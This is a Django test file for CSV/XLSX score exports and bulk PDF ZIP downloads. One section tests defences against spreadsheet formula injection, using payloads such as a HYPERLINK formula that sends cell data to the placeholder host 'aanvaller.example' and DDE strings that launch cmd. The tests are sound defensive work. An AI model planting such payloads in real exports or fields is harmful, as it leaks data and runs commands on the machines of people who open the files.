"""Score exports (CSV/XLSX) and the bulk ZIP of PDFs."""

import csv
import io
import zipfile
from datetime import timedelta

from django.core.files.base import ContentFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from inspecties.models import Beoordeling, Onderzoek
from rapporten.bulk import bulk_export_aanvragen
from rapporten.exports import KOLOMMEN
from rapporten.models import BulkExport
from tests.conftest import inloggen
from toetsingskader.services import toetsingskader_laden


def _inhoud(antwoord) -> bytes:
    """A streamed response's bytes (exports are streamed, never held in memory)."""
    assert antwoord.streaming
    return b"".join(antwoord.streaming_content)


def test_csv_heeft_een_regel_per_gescoorde_indicator(demo, client, medewerker):
    inloggen(client, medewerker)
    antwoord = client.get(reverse("rapporten:export_csv"), {"status": "gepubliceerd"})
    assert antwoord.status_code == 200
    rijen = list(csv.reader(io.StringIO(_inhoud(antwoord).decode("utf-8-sig")), delimiter=";"))
    assert rijen[0] == KOLOMMEN
    data = rijen[1:]
    verwacht = Beoordeling.objects.filter(onderzoek__in=list(demo.values()))
    assert len(data) == verwacht.exclude(optie=None, niet_getoetst=False).count()
    # The Bergen op Zoom toezichtonderzoek scores no indicator: it has no rows.
    assert verwacht.filter(onderzoek=demo[("Bergen op Zoom", 2017)]).exists()
    assert "Bergen op Zoom" not in {r[0] for r in data}
    sleutels = {(r[KOLOMMEN.index("onderzoek_id")], r[KOLOMMEN.index("indicator")]) for r in data}
    assert len(sleutels) == len(data)
    gouda = next(r for r in data if r[0] == "Gouda")
    assert gouda[KOLOMMEN.index("score")] in ("√", "X")
    assert gouda[KOLOMMEN.index("kader")] == demo[("Gouda", 2013)].kader.sleutel

    per_jaar = client.get(reverse("rapporten:export_csv"), {"jaar": 2014})
    jaren = {
        r[KOLOMMEN.index("jaar")]
        for r in list(
            csv.reader(io.StringIO(_inhoud(per_jaar).decode("utf-8-sig")), delimiter=";")
        )[1:]
    }
    assert jaren == {"2014"}


def test_xlsx_heeft_dezelfde_regels(demo, client, inspecteur):
    inloggen(client, inspecteur)
    antwoord = client.get(reverse("rapporten:export_xlsx"))
    blad = load_workbook(io.BytesIO(_inhoud(antwoord))).active
    rijen = list(blad.iter_rows(values_only=True))
    assert list(rijen[0]) == KOLOMMEN
    assert len(rijen) - 1 == Beoordeling.objects.exclude(optie=None, niet_getoetst=False).count()


def test_bulk_zip_bevat_een_geldige_pdf_per_onderzoek(
    demo, client, medewerker, django_capture_on_commit_callbacks
):
    inloggen(client, medewerker)
    with django_capture_on_commit_callbacks(execute=True):
        antwoord = client.post(reverse("rapporten:exports"), {"status": "gepubliceerd"})
    export = BulkExport.objects.get()
    assert antwoord.status_code == 302
    assert antwoord["Location"] == reverse("rapporten:bulk_status", args=[export.pk])
    assert export.status == BulkExport.Status.KLAAR
    assert export.klaar == export.totaal == len(demo)

    status = client.get(reverse("rapporten:bulk_status", args=[export.pk]), HTTP_HX_REQUEST="true")
    assert "hx-trigger" not in status.text and "Download ZIP" in status.text

    zipbestand = client.get(reverse("rapporten:bulk_download", args=[export.pk]))
    assert zipbestand["Content-Disposition"] == f'attachment; filename="rapporten-{export.pk}.zip"'
    with zipfile.ZipFile(io.BytesIO(zipbestand.getvalue())) as zf:
        namen = zf.namelist()
        assert len(namen) == len(demo)
        for naam in namen:
            reader = PdfReader(io.BytesIO(zf.read(naam)))
            assert len(reader.pages) >= 1
            assert reader.metadata.title


@pytest.mark.django_db
def test_bulk_status_pollt_zolang_de_export_loopt(client, inspecteur):
    export = BulkExport.objects.create(
        totaal=4, klaar=1, status=BulkExport.Status.BEZIG, aangevraagd_door=inspecteur
    )
    inloggen(client, inspecteur)
    antwoord = client.get(
        reverse("rapporten:bulk_status", args=[export.pk]), HTTP_HX_REQUEST="true"
    )
    assert 'hx-trigger="every 1s"' in antwoord.text
    assert 'value="1"' in antwoord.text and 'max="4"' in antwoord.text


def test_bulk_service_maakt_zip_van_gekozen_onderzoeken(demo, django_capture_on_commit_callbacks):
    onderzoeken = Onderzoek.objects.filter(jaar=2013)
    with django_capture_on_commit_callbacks(execute=True):
        export = bulk_export_aanvragen(onderzoeken=onderzoeken, door=None)
    export.refresh_from_db()
    assert export.status == BulkExport.Status.KLAAR
    assert export.totaal == onderzoeken.count()


def test_bulk_zip_bevat_de_bevroren_bytes_en_schrijft_zelf_niets_vast(
    demo, django_capture_on_commit_callbacks
):
    """A frozen study goes into the ZIP byte for byte; one published without a frozen copy is
    rendered fresh but not frozen by the export (freezing is publishing's job alone)."""
    from rapporten.models import GepubliceerdRapport
    from rapporten.services import demo_bevriezen

    demo_bevriezen()
    gouda = demo[("Gouda", 2013)]
    bevroren = GepubliceerdRapport.objects.get(onderzoek=gouda)
    GepubliceerdRapport.objects.exclude(pk=bevroren.pk).delete()
    with django_capture_on_commit_callbacks(execute=True):
        export = bulk_export_aanvragen(onderzoeken=Onderzoek.objects.gepubliceerd(), door=None)
    export.refresh_from_db()
    assert export.status == BulkExport.Status.KLAAR
    assert list(GepubliceerdRapport.objects.all()) == [bevroren]
    with export.zip.open("rb") as f, zipfile.ZipFile(f) as zf:
        inhoud = {naam: zf.read(naam) for naam in zf.namelist()}
    assert len(inhoud) == len(demo)
    with bevroren.pdf.open("rb") as f:
        assert f.read() in inhoud.values()


def _klare_export(door, dagen_oud: int) -> BulkExport:
    export = BulkExport.objects.create(totaal=1, klaar=1, status=BulkExport.Status.KLAAR)
    export.aangevraagd_door = door
    export.zip.save("export.zip", ContentFile(b"PK\x05\x06" + bytes(18)), save=False)
    export.save()
    BulkExport.objects.filter(pk=export.pk).update(
        aangemaakt_op=timezone.now() - timedelta(days=dagen_oud)
    )
    return export


@pytest.mark.django_db
def test_een_collega_ziet_noch_downloadt_andermans_export(client, inspecteur, medewerker):
    export = _klare_export(inspecteur, dagen_oud=0)
    inloggen(client, medewerker)
    assert client.get(reverse("rapporten:bulk_status", args=[export.pk])).status_code == 404
    assert client.get(reverse("rapporten:bulk_download", args=[export.pk])).status_code == 404
    assert f"Export {export.pk}" not in client.get(reverse("rapporten:exports")).text
    inloggen(client, inspecteur)
    assert client.get(reverse("rapporten:bulk_download", args=[export.pk])).status_code == 200
    assert f"Export {export.pk}" in client.get(reverse("rapporten:exports")).text


@pytest.mark.django_db
def test_exports_opruimen_verwijdert_oude_exports_met_hun_zip(inspecteur, settings):
    settings.EXPORT_BEWAARDAGEN = 7
    oud = _klare_export(inspecteur, dagen_oud=8)
    nieuw = _klare_export(inspecteur, dagen_oud=6)
    opslag, oud_pad = oud.zip.storage, oud.zip.name
    assert opslag.exists(oud_pad)
    uitvoer = io.StringIO()

    call_command("exports_opruimen", stdout=uitvoer)

    assert "1 bulkexport(s) ouder dan 7 dagen verwijderd" in uitvoer.getvalue()
    assert list(BulkExport.objects.all()) == [nieuw]
    assert not opslag.exists(oud_pad)
    assert opslag.exists(nieuw.zip.name)


# --- Formulas in texts (issue 12) ------------------------------------------------------------

GEVAARLIJK = {
    "gemeente": '=HYPERLINK("https://aanvaller.example/?d="&A2,"Klik")',
    "aanpak": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kader_versie": "+1",
    "thema": "-2+3+cmd|' /C calc'!A0",
    "criterium": "=1+1",
    "indicator_tekst": "@A1",
    "bevinding": "\t=1+1 na een tab",
    "let_op": "\r=1+1 na een CR",
}
FORMULE_BEGIN = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def vergiftigd_onderzoek(db):
    """A scored study whose every text field, framework included, starts like a formula."""
    from inspecties.onderzoeken.services import (
        beoordeling_opslaan,
        bevinding_opslaan,
        onderzoek_aanmaken,
    )
    from tests.factories import AanpakFactory, GemeenteFactory

    kader, _ = toetsingskader_laden(
        tekst=f"""sleutel: vergiftigd
versie: "{GEVAARLIJK["kader_versie"]}"
naam: Vergiftigd kader
schaal:
  - {{code: voldoet, symbool: "√", label: Voldoet}}
  - {{code: verbeterpunt, symbool: "X", label: Verbeterpunt}}
themas:
  - sleutel: thema
    naam: "{GEVAARLIJK["thema"]}"
    criteria:
      - sleutel: criterium
        naam: "{GEVAARLIJK["criterium"]}"
        indicatoren:
          - sleutel: indicator
            tekst: "{GEVAARLIJK["indicator_tekst"]}"
""",
        vaststellen=True,
    )
    aanpak = AanpakFactory(
        naam=GEVAARLIJK["aanpak"], gemeente=GemeenteFactory(naam=GEVAARLIJK["gemeente"])
    )
    onderzoek = onderzoek_aanmaken(
        aanpak=aanpak, kader=kader, soort=Onderzoek.Soort.BELEIDSTOETS, jaar=2016
    )
    beoordeling = onderzoek.beoordelingen.get()
    beoordeling_opslaan(
        beoordeling=beoordeling,
        optie=kader.schaal.get(code="voldoet"),
        niet_getoetst=False,
        versie=1,
    )
    bevinding_opslaan(
        beoordeling=beoordeling,
        tekst=GEVAARLIJK["bevinding"],
        let_op=GEVAARLIJK["let_op"],
        versie=None,
    )
    return onderzoek


def test_csv_neutraliseert_formules_en_heeft_een_bom(vergiftigd_onderzoek, client, medewerker):
    inloggen(client, medewerker)
    antwoord = client.get(reverse("rapporten:export_csv"))
    inhoud = _inhoud(antwoord)
    assert inhoud.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8 and shows √
    rijen = list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig")), delimiter=";"))
    assert rijen[0] == KOLOMMEN
    [rij] = rijen[1:]
    waarden = dict(zip(KOLOMMEN, rij, strict=True))
    for kolom, tekst in GEVAARLIJK.items():
        assert waarden[kolom] == "'" + tekst, kolom
    assert waarden["score"] == "√"
    for rij in rijen:
        assert not any(cel.startswith(FORMULE_BEGIN) for cel in rij), rij


def test_xlsx_schrijft_teksten_als_tekst_nooit_als_formule(
    vergiftigd_onderzoek, client, medewerker
):
    inloggen(client, medewerker)
    antwoord = client.get(reverse("rapporten:export_xlsx"))
    blad = load_workbook(io.BytesIO(_inhoud(antwoord))).active
    rijen = list(blad.iter_rows())
    assert [c.value for c in rijen[0]] == KOLOMMEN
    [rij] = rijen[1:]
    cellen = dict(zip(KOLOMMEN, rij, strict=True))
    for kolom, tekst in GEVAARLIJK.items():
        # XML reads a bare CR as a line feed: the text keeps its line break.
        assert cellen[kolom].value == tekst.replace("\r", "\n"), kolom
        assert cellen[kolom].data_type == "s" and cellen[kolom].quotePrefix, kolom
    assert cellen["score"].value == "√"
    assert all(c.data_type != "f" for r in rijen for c in r)


def test_csv_wordt_in_stukken_gestreamd_met_een_bom(demo, client, medewerker, monkeypatch):
    """Streamed in chunks (never one string of the whole file), the BOM once at the start."""
    from rapporten import exports

    monkeypatch.setattr(exports, "RIJEN_PER_STUK", 5)
    inloggen(client, medewerker)
    antwoord = client.get(reverse("rapporten:export_csv"))
    stukken = list(antwoord.streaming_content)
    assert len(stukken) > 3
    assert stukken[0].startswith(b"\xef\xbb\xbf")
    assert all(b"\xef\xbb\xbf" not in s for s in stukken[1:])
    rijen = list(csv.reader(io.StringIO(b"".join(stukken).decode("utf-8-sig")), delimiter=";"))
    assert rijen[0] == KOLOMMEN
    assert len(rijen) - 1 == Beoordeling.objects.exclude(optie=None, niet_getoetst=False).count()
    assert antwoord["Content-Type"] == "text/csv; charset=utf-8"
